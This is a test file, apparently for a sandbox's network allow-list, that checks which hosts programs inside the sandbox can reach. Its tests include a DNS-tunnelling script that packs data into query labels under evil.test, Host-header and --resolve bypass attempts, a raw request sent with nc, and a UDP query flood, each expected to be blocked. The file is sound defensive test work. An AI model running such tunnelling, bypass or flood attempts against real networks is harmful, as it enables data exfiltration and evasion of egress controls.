import { createServer as createTcpServer } from "node:net";
import { text as streamText } from "node:stream/consumers";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { SandboxEvent } from "../../../contracts/types.js";
import { buildJail } from "../../../src/sandbox/backends/local/local-jail.js";
import { createLocalSandbox } from "../../../src/sandbox/backends/local.js";
import { egressInternals, openEgress } from "../../../src/sandbox/egress/open-egress.js";
import { startCommand } from "../../../src/sandbox/guest/guest-process.js";
import { startJailedGuest } from "../../../src/sandbox/jail/start-guest.js";
import type { Sandbox } from "../../../src/sandbox/types.js";
import { openSandbox, removeSandbox } from "../../../src/sandbox.js";
import { describeUnless } from "../../support/describe-unless.js";
import { type Certificate, createCertificate } from "../../support/egress/certificate.js";
import { type LowOrigin, startLowOrigin, whyNoLowPorts } from "../../support/egress/low-ports.js";
import { listen } from "../../support/egress/running-proxy.js";
import { withoutSecrets } from "../../support/egress/without-secrets.js";
import { createScratch, type Scratch } from "../../support/scratch.js";

const NAME = "allowed.test";
const SPEAKER = "speaker.test";

let scratch: Scratch;
let certificate: Certificate;
let origin: LowOrigin;
let speaker: { port: number; close(): void };
let sandbox: Sandbox;
let events: SandboxEvent[];
const lookups: string[] = [];
const unable = whyNoLowPorts();

beforeAll(async () => {
  if (unable !== undefined) return;
  scratch = createScratch();
  certificate = createCertificate(scratch.path, [NAME, `*.${NAME}`, "evil.test"]);
  origin = await startLowOrigin(certificate);
  const server = createTcpServer((socket) => socket.on("error", () => undefined).end("220 I speak first\r\n"));
  speaker = { port: await listen(server), close: () => server.close() };
  egressInternals.route = {
    lookup: async (host) => {
      lookups.push(host);
      return [host === SPEAKER ? "127.0.0.1" : origin.address];
    },
    isReachable: () => true,
  };
  events = [];
  sandbox = await createLocalSandbox({
    network: { allow: [NAME, `*.${NAME}`, `plain://${SPEAKER}:${speaker.port}`] },
    onEvent: (event) => events.push(event),
  });
  await sandbox.writeFile("ca.pem", certificate.cert);
});

afterAll(async () => {
  if (unable !== undefined) return;
  await sandbox.teardown();
  delete egressInternals.route;
  origin.close();
  speaker.close();
  scratch.remove();
});

const warnings = (): string[] => events.filter(({ type }) => type === "warning").map(({ message }) => message);
const UNSET = "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY NODE_USE_ENV_PROXY;";
/** Runs a script in a shell whose programs know no proxy. */
const run = async (script: string, box = sandbox): Promise<{ out: string; code: number }> => {
  const { stdout, stderr, exitCode } = await box.shell(`${UNSET} ${script}`);
  return { out: stdout + stderr, code: exitCode };
};
const python = (script: string): string => `python3 -c '${script}'`;
const node = (script: string): string => `NODE_EXTRA_CA_CERTS=$PWD/ca.pem node -e '${script}'`;

describeUnless(unable, "[N-NET-06] without a proxy", {}, () => {
  test.each([
    ["curl", `curl -sS -m 20 --cacert ca.pem https://${NAME}/`, `https GET ${NAME}`],
    ["curl by plain HTTP", `curl -sS -m 20 http://${NAME}/`, `http GET ${NAME}`],
    ["curl, below a wildcard", `curl -sS -m 20 --cacert ca.pem https://below.${NAME}/`, `https GET below.${NAME}`],
    ["curl by IPv4 only", `curl -4 -sS -m 20 --cacert ca.pem https://${NAME}/`, `https GET ${NAME}`],
    ["curl in other letters", `curl -sS -m 20 --cacert ca.pem https://ALLOWED.test./`, "https GET ALLOWED.test."],
    [
      "Node's fetch",
      node(`fetch("https://${NAME}/").then((r) => r.text()).then((t) => console.log(t))`),
      `https GET ${NAME}`,
    ],
    [
      "Node's fetch by plain HTTP",
      node(`fetch("http://${NAME}/", { method: "POST", body: "x" }).then((r) => r.text()).then((t) => console.log(t))`),
      `http POST ${NAME}`,
    ],
    [
      "Python",
      python(
        `import ssl, urllib.request as u; print(u.urlopen("https://${NAME}/", context=ssl.create_default_context(cafile="ca.pem")).read().decode())`,
      ),
      `https GET ${NAME}`,
    ],
    ["BusyBox", `busybox wget -q -O - http://${NAME}/`, `http GET ${NAME}`],
    [
      "a program that prefers IPv6",
      node(
        `require("https").get({ host: "${NAME}", autoSelectFamily: true, verbatim: true }, (r) => r.pipe(process.stdout))`,
      ),
      `https GET ${NAME}`,
    ],
  ])("%s reaches an allowed name", async (_who, script, answer) => {
    const { out, code } = await run(script);
    expect({ out: out.trim(), code }).toEqual({ out: answer, code: 0 });
  });

  test("a name resolves to an address of the sandbox, and nothing is looked up outside for that", async () => {
    const before = lookups.length;
    const { out } = await run(
      `getent ahosts tunnel-0123456789.${NAME} | head -n 1; getent hosts ${NAME}; getent hosts evil.test; echo $?`,
    );
    expect(out.replaceAll(/ +/g, " ")).toBe(`127.77.0.1 STREAM tunnel-0123456789.${NAME}\n127.77.0.1 ${NAME}\n2\n`);
    expect(lookups.length).toBe(before);
  });

  test("queries of a tunnel get nothing back but an address of the sandbox, and leave the sandbox in no form", async () => {
    const before = lookups.length;
    const script = `
import re, socket, struct
server = re.search(r"^nameserver (\\S+)", open("/etc/resolv.conf").read(), re.M).group(1)
def ask(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(20)
        udp.sendto(query, (server, 53))
        reply = udp.recv(4096)
    return "%d:%d:%d" % (reply[3] & 15, struct.unpack(">H", reply[6:8])[0], len(reply) - len(query))
data = ".".join(letter * 63 for letter in "abc")
for zone in ["evil.test", "${NAME}"]:
    print(*[ask(data + "." + zone, kind) for kind in [1, 28, 16, 10, 5, 33]])`;
    await sandbox.writeFile("tunnel.py", script);
    const { out, code } = await run("python3 tunnel.py");
    // code, answers, bytes more than were asked: for A, AAAA, TXT, NULL, CNAME and SRV
    expect(out.trim().split("\n")).toEqual([
      "3:0:0 3:0:0 3:0:0 3:0:0 3:0:0 3:0:0",
      "0:1:16 0:0:0 0:0:0 0:0:0 0:0:0 0:0:0",
    ]);
    expect(code).toBe(0);
    expect(lookups.length).toBe(before);
  });

  test("a host that speaks first, without TLS, is reached by its own address", async () => {
    const { out, code } = await run(`bash -c 'cat < /dev/tcp/${SPEAKER}/${speaker.port}'`);
    expect({ out, code }).toEqual({ out: "220 I speak first\r\n", code: 0 });
  });

  test("another name does not exist, which is known at once and reported", async () => {
    const started = performance.now();
    const { out, code } = await run("curl -sS -m 20 https://evil.test/");
    expect({ out, code }).toEqual({ out: "curl: (6) Could not resolve host: evil.test\n", code: 6 });
    expect(performance.now() - started).toBeLessThan(4_000); // a resolver that says nothing is waited for 5 s and more
    expect(warnings()).toContain("blocked evil.test: network.allow does not have it");
  });

  test("an address that leads there gives no other host", async () => {
    const before = origin.requests.length;
    const resolve = `--resolve evil.test:443:127.77.0.1 --resolve evil.test:80:127.77.0.1`;
    expect((await run(`getent hosts ${NAME}; curl -sS -m 20 -k ${resolve} https://evil.test/`)).out).toMatch(
      /access denied/,
    );
    expect((await run(`curl -sS -m 20 ${resolve} http://evil.test/`)).out).toMatch(/does not allow evil\.test:80/);
    expect((await run("curl -sS -m 20 -k https://127.77.0.1/")).out).toMatch(/unrecognized name/);
    expect((await run("curl -sS -m 20 http://127.77.0.1/")).out).toMatch(/does not allow 127\.77\.0\.1:80/);
    expect((await run(`curl -sS -m 20 -H 'Host: evil.test' http://${NAME}/`)).out).toMatch(
      /does not allow evil\.test:80/,
    );
    expect(
      (await run(`printf 'GET http://evil.test/ HTTP/1.1\\r\\nHost: ${NAME}\\r\\n\\r\\n' | busybox nc ${NAME} 80`)).out,
    ).toMatch(/^HTTP\/1\.1 400/);
    expect(origin.requests.length).toBe(before);
    expect(warnings()).toEqual(
      expect.arrayContaining([
        "blocked evil.test:443: network.allow does not have it",
        expect.stringMatching(/^blocked .*:443: the TLS hello of a program without a proxy does not name its host$/),
      ]),
    );
    expect(lookups).not.toContain("evil.test");
  });

  test("garbage, large datagrams and queries by connection do not disturb it", async () => {
    const script = `
import os, socket, struct
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.settimeout(20)
for size in [0, 1, 11, 12, 13, 511, 512, 513, 60000]:
    udp.sendto(os.urandom(size), ("127.77.0.1", 53))
query = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x07allowed\\x04test\\0\\0\\x01\\0\\x01"
udp.sendto(query, ("127.77.0.1", 53))
while True:
    answer = udp.recv(600)
    if answer[:2] == query[:2]: break
print(answer[-4:].hex())
tcp = socket.create_connection(("127.77.0.1", 53), 20)
tcp.sendall(struct.pack(">H", len(query)) + query[:5])
tcp.sendall(query[5:] + struct.pack(">H", len(query)) + query)
stream = tcp.makefile("rb")
for _ in range(2): print(stream.read(struct.unpack(">H", stream.read(2))[0])[-4:].hex())
tcp.sendall(b"\\xff\\xff" + bytes(1000))
try: print(stream.read().hex())
except ConnectionResetError: print("")
`;
    await sandbox.writeFile("ask.py", script);
    expect((await run("python3 ask.py")).out).toBe("7f4d0001\n7f4d0001\n7f4d0001\n\n");
    expect((await run(`curl -sS -m 20 http://${NAME}/`)).out).toBe(`http GET ${NAME}`);
  });

  test("10,000 queries are answered at a pace, and other commands do not wait for them", async () => {
    const script = `
import socket, sys
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
query = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x01x\\x05%04d\\x04evil\\0\\0\\x01\\0\\x01"
print("go", flush=True)
for n in range(10000): udp.sendto(query.replace(b"%04d", b"%05d" % n), ("127.77.0.1", 53))
udp.settimeout(2)
count = 0
try:
    while True:
        udp.recv(600)
        count += 1
except TimeoutError: print(count)
`;
    await sandbox.writeFile("flood.py", script);
    await using flood = await sandbox.spawn({ argv: ["python3", "flood.py"] });
    const reader = flood.stdout.pipeThrough(new TextDecoderStream()).getReader();
    let printed = (await reader.read()).value ?? "";
    const started = performance.now();
    for (let count = 0; count < 20; count++) expect((await sandbox.exec({ argv: ["true"] })).exitCode).toBe(0);
    expect((performance.now() - started) / 20).toBeLessThan(500);
    for (let next = await reader.read(); !next.done; next = await reader.read()) printed += next.value;
    const answered = Number(printed.split("\n")[1]);
    expect(answered).toBeGreaterThan(10);
    expect(answered).toBeLessThan(10_000); // what the kernel could not hold is lost
    expect((await run(`curl -sS -m 20 http://${NAME}/`)).out).toBe(`http GET ${NAME}`);
  });

  test("servers in the sandbox have the low ports of 127.0.0.1, and are not mixed up with them", async () => {
    const server = (port: number): string[] => ["python3", "-m", "http.server", String(port), "--bind", "127.0.0.1"];
    await run(`getent hosts ${NAME}`);
    await expect(sandbox.waitForPort(443, { timeout: 300 })).rejects.toMatchObject({ code: "unavailable" });
    await using one = await sandbox.spawn({ argv: server(443) });
    await using two = await sandbox.spawn({ argv: server(80) });
    await using three = await sandbox.spawn({ argv: server(53) });
    for (const port of [443, 80, 53]) await sandbox.waitForPort(port, { timeout: 20_000 });
    await sandbox.writeFile("own.txt", "its own");
    expect((await run("curl -sS -m 20 http://127.0.0.1/own.txt")).out).toBe("its own");
    expect((await run(`curl -sS -m 20 --cacert ca.pem https://${NAME}/`)).out).toBe(`https GET ${NAME}`);
    expect([one, two, three].every(({ id }) => id !== undefined)).toBe(true);
  });

  test("names follow the rules while a window is open, and are gone after it", async () => {
    await using closed = await createLocalSandbox({ network: "none" });
    const fetch = `curl -sS -m 20 http://${NAME}/`;
    expect((await run(fetch, closed)).code).toBe(6);
    const window = await closed.openNetwork([NAME]);
    expect((await run(fetch, closed)).out).toBe(`http GET ${NAME}`);
    await window.close();
    expect((await run(fetch, closed)).code).toBe(6);
    // The listener may still be there, for whoever remembers the address.
    const remembered = `curl -sS -m 20 --resolve ${NAME}:80:127.77.0.1 http://${NAME}/`;
    expect((await run(remembered, closed)).out).toMatch(/does not allow|Failed to connect/);
  });

  test("a fork has them, and a sandbox that is opened again", async () => {
    const kept = await createLocalSandbox({ network: { allow: [NAME] }, keep: true });
    const fetch = `curl -sS -m 20 http://${NAME}/`;
    const [fork] = await kept.fork({ count: 1 });
    try {
      expect(fork && (await run(fetch, fork)).out).toBe(`http GET ${NAME}`);
      await kept.teardown();
      await using again = await openSandbox({ id: kept.id });
      expect((await run(fetch, again)).out).toBe(`http GET ${NAME}`);
    } finally {
      await fork?.teardown();
      await removeSandbox(kept.id);
    }
  });

  test("a name that somebody allows when asked is reached by the program that waits", async () => {
    const asked: string[] = [];
    await using asking = await createLocalSandbox({
      network: { allow: [] },
      onBlocked: ({ host, port }) => {
        asked.push(`${host}:${port}`);
        return host === NAME ? "allow-once" : "deny";
      },
    });
    expect((await run(`curl -sS -m 20 http://${NAME}/`, asking)).out).toBe(`http GET ${NAME}`);
    expect((await run("curl -sS -m 20 -k https://evil.test/", asking)).out).toMatch(/access denied/);
    expect((await run("curl -sS -m 20 http://printer/", asking)).code).toBe(6);
    expect(asked).toEqual([`${NAME}:80`, "evil.test:443"]);
  });

  test("names follow rules that are set while the sandbox is open", async () => {
    await using changing = await createLocalSandbox({ network: "none" });
    const fetch = (host: string): string => `curl -sS -m 20 http://${host}/`;
    await changing.setNetwork({ allow: [NAME] });
    expect((await run(fetch(NAME), changing)).out).toBe(`http GET ${NAME}`);
    await changing.setNetwork({ allow: ["other.test"] });
    expect((await run(fetch(NAME), changing)).code).toBe(6);
    expect((await run(fetch("other.test"), changing)).out).toBe("http GET other.test");
    await changing.setNetwork("none");
    expect((await run(fetch("other.test"), changing)).code).toBe(6);
  });

  test("a sandbox that gets no low ports still has its proxy, and says so", async () => {
    const tree = { source: scratch.path, target: scratch.path, writable: true, owned: true };
    const jail = buildJail({ workDir: scratch.path, trees: [tree], network: "none", cgroups: [] });
    const guest = await startJailedGuest(jail.spec);
    const said: string[] = [];
    const way = { rules: { allow: [NAME] }, onBlocked: (message: string) => void said.push(message) };
    const egress = await openEgress(guest.channel, { ...way, ...withoutSecrets() });
    const argv = ["curl", "-sS", "-m", "20", `http://${NAME}/`];
    const start = { argv, cwd: scratch.path, env: { ...jail.baseEnv, ...egress.env }, stdin: "none" } as const;
    const process = await startCommand(guest.channel, start, "");
    expect(await streamText(process.stdout)).toBe(`http GET ${NAME}`);
    expect(said).toEqual([
      expect.stringMatching(/^programs that know no proxy resolve no names in this sandbox: .*may not be used/),
    ]);
    await guest.stop();
  });
});
